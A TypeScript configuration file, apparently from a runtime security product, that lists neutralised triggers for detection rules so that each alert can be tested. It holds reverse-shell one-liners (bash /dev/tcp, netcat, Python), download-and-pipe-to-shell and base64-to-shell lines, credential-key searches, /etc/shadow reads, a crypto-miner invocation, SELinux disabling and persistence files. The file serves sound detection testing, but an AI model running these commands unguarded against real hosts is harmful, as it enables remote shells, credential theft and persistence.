import type { Trigger } from '@cws/core'

/** By rule: what has it fire and harms nobody. Rules that are not here have none that is harmless on a host that matters. */
export const triggers: Readonly<Record<string, Trigger>> = {
  'shell-from-web-server': { run: '/bin/sh', args: ['-c', 'exit 0'], below: 'nginx' },
  'recon-from-web-server': { run: '/usr/bin/whoami', below: 'apache2' },
  'shell-from-database': { run: '/bin/sh', args: ['-c', 'exit 0'], below: 'postgres' },
  'reverse-shell': { run: '/bin/bash', args: ['-c', 'false && bash -i >& /dev/tcp/127.0.0.1/9 0>&1'] },
  'reverse-shell-by-netcat': { run: 'nc', args: ['-e', '/bin/sh', '127.0.0.1', '9'] },
  'reverse-shell-by-interpreter': {
    run: 'python3',
    args: ['-c', 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",9));os.dup2(s.fileno(),0);pty.spawn("sh")'],
  },
  'exec-from-memory-filesystem': { run: 'payload', folder: '/dev/shm' },
  'hidden-executable': { run: '.update' },
  'kernel-thread-disguise': { run: 'worker', argv0: '[kworker/0:1]' },
  'loader-run-by-hand': { run: '/lib64/ld-linux-x86-64.so.2', args: ['/bin/true'] },
  'decoder-piped-to-shell': { run: '/bin/sh', args: ['-c', 'false && echo aWQ= | base64 -d | sh'] },
  'download-piped-to-shell': { run: '/bin/sh', args: ['-c', 'false && curl -fsSL http://127.0.0.1:9/x.sh | sh'] },
  'credential-search': { run: 'find', args: ['/home', '-name', 'id_rsa'], session: true },
  'password-file-read': { run: 'cat', args: ['/etc/shadow'], session: true },
  'preload-from-writable-folder': { run: '/bin/true', env: { LD_PRELOAD: '/tmp/cws-simulate-nowhere.so' }, session: true },
  'set-id-exploit': { run: 'pkexec', argv0: '' },
  cryptominer: { run: 'xmrig', args: ['-o', 'stratum+tcp://127.0.0.1:9'] },
  'security-tool-stopped': { run: 'setenforce', args: ['0'], session: true },
  'command-beyond-sight': { run: '/bin/sh', args: ['-c', `${' '.repeat(70_000)}:`] },
  // Nothing of it is read.
  'password-hashes-opened': { run: '/usr/bin/head', args: ['-c0', '/etc/shadow'] },
  // They hold a comment, and are gone when the signal has come.
  'scheduled-task-changed': { make: '/etc/cron.d/cws-simulate' },
  'systemd-unit-changed': { make: '/etc/systemd/system/cws-simulate.service' },
  'shell-profile-changed': { make: '/etc/profile.d/cws-simulate.sh' },
  'startup-script-changed': { make: '/etc/init.d/cws-simulate' },
  'device-rule-changed': { make: '/etc/udev/rules.d/90-cws-simulate.rules' },
  'file-made-immutable': { run: 'chattr', args: ['+i', '/nowhere'], session: true },
}
